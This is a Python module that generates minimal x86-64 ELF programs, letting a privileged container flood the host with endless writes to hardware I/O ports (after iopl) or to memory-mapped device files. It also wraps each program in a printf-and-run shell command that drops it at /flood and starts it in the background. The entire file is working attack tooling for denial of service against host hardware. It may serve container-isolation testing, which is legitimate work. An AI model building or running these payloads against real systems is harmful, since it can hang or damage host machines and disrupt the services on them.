"""Programs of a few instructions by which a privileged container floods the host, and what they write to."""

from __future__ import annotations

import struct

_BASE = 0x400000
_FILE_HEADER, _PROGRAM_HEADER = struct.Struct("<4sBBB9xHHIQQQIHHHHHH"), struct.Struct("<IIQQQQQQ")
_HEADERS = _FILE_HEADER.size + _PROGRAM_HEADER.size
_IOPL = b"\xb8\xac\0\0\0\xbf\3\0\0\0\x0f\5"  # mov eax, SYS_iopl; mov edi, 3; syscall
_OUT_FOR_EVER = b"\xee\xeb\xfd"  # again: out dx, al; jmp again
_MAP_ARGUMENT = (
    b"\x48\x8b\x7c\x24\x10"  # mov rdi, argv[1]
    b"\xbe\2\x10\x10\0\xb8\2\0\0\0\x0f\5"  # open(rdi, O_RDWR | O_SYNC)
    b"\x49\x89\xc0"  # mov r8, rax
    b"\x31\xff\xbe\0\x10\0\0\xba\3\0\0\0\x41\xba\1\0\0\0\x45\x31\xc9"
    b"\xb8\x09\0\0\0\x0f\5"  # mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, r8, 0)
)  # fmt: skip


def _executable(code: bytes) -> bytes:
    """Put the headers of a static program for x86-64 before its code; see elf(5)."""
    size = _HEADERS + len(code)
    entry = _BASE + _HEADERS
    header = _FILE_HEADER.pack(
        b"\x7fELF", 2, 1, 1, 2, 62, 1, entry, _FILE_HEADER.size, 0, 0, _FILE_HEADER.size,
        _PROGRAM_HEADER.size, 1, 0, 0, 0,
    )  # fmt: skip
    return header + _PROGRAM_HEADER.pack(1, 5, 0, _BASE, _BASE, size, size, 4096) + code


def _out(port: int, value: int) -> bytes:
    return b"\x66\xba" + port.to_bytes(2, "little") + b"\xb0" + bytes([value]) + b"\xee"


def to_port(port: int, *before: tuple[int, int]) -> bytes:
    """Build a program that writes to an I/O port forever.

    :param port: where to; the value is the last one of ``before``, or any.
    :param before: the ports and values that are written first.
    """
    prepared = b"".join(_out(*each) for each in before)
    return _executable(_IOPL + prepared + b"\x66\xba" + port.to_bytes(2, "little") + _OUT_FOR_EVER)


def to_memory(value: int) -> bytes:
    """Build a program that writes a byte forever to the device memory in the file that is its argument."""
    return _executable(_MAP_ARGUMENT + b"\xc6\0" + bytes([value]) + b"\xeb\xfb")


def as_command(program: bytes, *arguments: str) -> str:
    """Build the shell command that makes a program in ``/flood`` and runs it in the background."""
    octal = "".join(f"\\{byte:03o}" for byte in program)
    return f"printf '{octal}' >/flood; chmod 755 /flood; /flood {' '.join(arguments)} &"
